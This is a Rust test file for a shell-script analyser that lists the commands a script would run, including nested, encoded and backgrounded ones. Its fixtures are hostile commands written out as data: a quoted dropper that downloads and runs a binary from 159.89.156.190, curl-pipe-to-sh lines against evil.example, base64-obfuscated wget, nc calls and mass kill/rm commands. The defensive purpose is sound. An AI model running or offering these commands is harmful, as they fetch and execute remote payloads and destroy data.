use super::*;

/// `parent text` a command; `&` marks the background.
fn check(script: &str, want: &[(Option<usize>, &str)]) {
    let got = would_run(script);
    let got: Vec<(Option<usize>, &str)> = got.iter().map(|it| (it.parent, it.text.as_str())).collect();
    assert_eq!(got, want, "{script}");
}

#[test]
fn the_talks_script() {
    let script = "/bin/busybox wget -O /tmp/pty1 http://159.89.156.190/.y/pty1;\n  chmod +x /tmp/pty1; chmod 700 /tmp/pty1; /tmp/pty1; cp /bin/\\\nbusybox /tmp/loop1; cat /tmp/pty1 > /tmp/loop1; /tmp/loop1 &\n";
    check(
        script,
        &[
            (None, "/bin/busybox wget -O /tmp/pty1 http://159.89.156.190/.y/pty1"),
            (None, "chmod +x /tmp/pty1"),
            (None, "chmod 700 /tmp/pty1"),
            (None, "/tmp/pty1"),
            (None, "cp /bin/busybox /tmp/loop1"),
            (None, "cat /tmp/pty1"),
            (None, "/tmp/loop1"),
        ],
    );
    let commands = would_run(script);
    assert_eq!(
        commands.iter().map(|it| it.background).collect::<Vec<_>>(),
        [false, false, false, false, false, false, true]
    );
    assert!(commands.iter().all(|it| script[it.offset..].starts_with(&it.argv0)));
}

#[test]
fn quotes_and_variables() {
    check(
        "H=192.0.2.1; P=/tmp/x; wget \"http://$H/a b\" -O ${P} 'c d'",
        &[(None, "wget http://192.0.2.1/a b -O /tmp/x c d")],
    );
    check("X=$(id); echo $X $Y", &[(None, "id"), (None, "echo $X $Y")]);
    check("w\"ge\"t x; $'\\x6c\\x73' -l; wget${IFS}y", &[(None, "wget x"), (None, "ls -l"), (None, "wget y")]);
    check("C=curl; $C http://evil.example/${Z:-z}", &[(None, "curl http://evil.example/z")]);
}

#[test]
fn loops_and_branches() {
    check(
        "for a in mips arm; do wget http://192.0.2.1/$a; done",
        &[(None, "wget http://192.0.2.1/mips"), (None, "wget http://192.0.2.1/arm")],
    );
    check("if which curl; then curl x; else wget x; fi", &[(None, "which curl"), (None, "curl x"), (None, "wget x")]);
    check(
        "while true; do nc 192.0.2.1 1; done & case $a in x) b c;; esac",
        &[(None, "true"), (None, "nc 192.0.2.1 1"), (None, "b c")],
    );
    check("get() { wget \"$1\"; }\nget http://evil.example/x", &[(None, "wget $1")]);
}

#[test]
fn scripts_within_scripts_are_children() {
    check("sh -c 'wget x; sh y'", &[(None, "sh -c wget x; sh y"), (Some(0), "wget x"), (Some(0), "sh y")]);
    check(
        "nohup bash -c \"eval 'curl x'\" &",
        &[(None, "nohup bash -c eval 'curl x'"), (Some(0), "eval curl x"), (Some(1), "curl x")],
    );
    check(
        "bash <<'EOF'\nls -l\nid\nEOF\nuname",
        &[(None, "bash"), (Some(0), "ls -l"), (Some(0), "id"), (None, "uname")],
    );
    check(
        "echo d2dldCBodHRwOi8vZXZpbC5leGFtcGxlL3g= | base64 -d | sh",
        &[
            (None, "echo d2dldCBodHRwOi8vZXZpbC5leGFtcGxlL3g="),
            (None, "base64 -d"),
            (None, "sh"),
            (Some(2), "wget http://evil.example/x"),
        ],
    );
    check("sh <<< 'id'", &[(None, "sh"), (Some(0), "id")]);
    check("curl http://evil.example/x | sh", &[(None, "curl http://evil.example/x"), (None, "sh")]);
    check(
        "kill -9 $(pgrep -f x | head -1) `id`",
        &[
            (None, "kill -9 $(pgrep -f x | head -1) `id`"),
            (Some(0), "pgrep -f x"),
            (Some(0), "head -1"),
            (Some(0), "id"),
        ],
    );
    check(
        "eval \"$(echo aWQ= | base64 -d)\"",
        &[(None, "eval id"), (Some(0), "echo aWQ="), (Some(0), "base64 -d"), (Some(0), "id")],
    );
    check("(cd /tmp; ./a) & { b; c; }", &[(None, "cd /tmp"), (None, "./a"), (None, "b"), (None, "c")]);
    check(
        "ps | xargs -n 1 kill -9; find / -name x -exec rm -f {} \\;",
        &[
            (None, "ps"),
            (None, "xargs -n 1 kill -9"),
            (Some(1), "kill -9"),
            (None, "find / -name x -exec rm -f {} ;"),
            (Some(3), "rm -f {}"),
        ],
    );
}

#[test]
fn a_file_that_the_script_writes_and_runs() {
    check(
        "cat <<EOF > /tmp/r.sh\nwget x\nEOF\nchmod +x /tmp/r.sh; /tmp/r.sh",
        &[(None, "cat"), (None, "chmod +x /tmp/r.sh"), (None, "/tmp/r.sh"), (Some(2), "wget x")],
    );
    check("echo 'curl y' > /tmp/q; sh /tmp/q", &[(None, "echo curl y"), (None, "sh /tmp/q"), (Some(1), "curl y")]);
}

#[test]
fn broken_shell_gives_what_could_be_read() {
    let texts = |script: &str| would_run(script).into_iter().map(|it| it.text).collect::<Vec<_>>();
    let got = texts("wget http://evil.example/a; ) ) fi; done\nchmod 777 a; ./a\n");
    for want in ["wget http://evil.example/a", "chmod 777 a", "./a"] {
        assert!(got.iter().any(|it| it == want), "{want}: {got:?}");
    }
    assert!(texts("curl \"http://evil.example/x").iter().any(|it| it.starts_with("curl http://evil.example/x")));
    for script in [
        "",
        "\0",
        "((((((((",
        "'",
        "\"$(`",
        "<<",
        "<<EOF",
        "${",
        "$((",
        "case",
        "for x in",
        "if; then",
        "|||",
        "\u{feff}ls",
        "é(ü)",
    ] {
        would_run(script);
    }
}

#[test]
fn the_limits_hold() {
    // length, at a line
    let long = "ls -l /tmp\n".repeat(10_000);
    let got = would_run(&long);
    assert!(got.len() <= MAX_COMMANDS && got.len() == MAX_COMMANDS.min(MAX_SCRIPT / 11));
    // scripts within scripts
    let mut script = "id".to_owned();
    for _ in 0..6 {
        script = format!("sh -c {}", quoted(&script));
    }
    assert_eq!(would_run(&script).last().unwrap().argv0, "id");
    let mut deep = "id".to_owned();
    for _ in 0..40 {
        deep = format!("eval eval {deep}");
    }
    would_run(&deep);
    let bomb = format!("X={}; {} echo $X", "x".repeat(4000), "X=$X$X; ".repeat(40));
    assert!(would_run(&bomb).iter().map(|it| it.text.len()).sum::<usize>() <= MAX_TEXT + MAX_SCRIPT);
    let values = "a ".repeat(60);
    let nested = format!("for a in {values}; do for b in {values}; do for c in {values}; do x $a; done; done; done");
    assert_eq!(would_run(&nested).len(), MAX_COMMANDS);
    // nesting and chains
    would_run(&"(".repeat(MAX_SCRIPT));
    would_run(&"$(".repeat(MAX_SCRIPT / 2));
    would_run(&"{ ".repeat(MAX_SCRIPT / 2));
    would_run(&"if a; then ".repeat(4000));
    assert_eq!(would_run(&vec!["a"; 3000].join(" && ")).len(), 3000);
    assert_eq!(would_run(&vec!["a"; 3000].join(" | ")).len(), MAX_STAGES + 1);
    // what the grammar would take minutes for gives up, and the lines that can be read are read
    for piece in ["a?", "a@", "<a>", "a|", "((a)", ">", "kill|", "a@\n", "${"] {
        let script = format!("wget x\n{}\nrm y\n", piece.repeat(30_000 / piece.len()));
        let mut reader = Reader::default();
        reader.script(&script, None, None, 0, 0);
        assert!(reader.parse_calls <= MAX_PARSE + MAX_PARSE / 8, "{piece}: {}", reader.parse_calls);
        assert!(reader.commands.iter().any(|it| it.text == "wget x"), "{piece}");
    }
}

fn quoted(script: &str) -> String {
    format!("'{}'", script.replace('\'', "'\\''"))
}

proptest::proptest! {
    #[test]
    fn nothing_panics(script in "(wget|sh|-c|eval|for a in|do|done|if|fi|then|\\(|\\)|\\{|\\}|\\$\\(|`|'|\"|<<E|E|\\||&|;|\n| |x=|\\$x|\\\\|ü|\\PC){0,60}") {
        let commands = would_run(&script);
        for (at, command) in commands.iter().enumerate() {
            proptest::prop_assert!(command.parent.is_none_or(|parent| parent < at));
            proptest::prop_assert!(command.offset <= script.len());
        }
    }
}
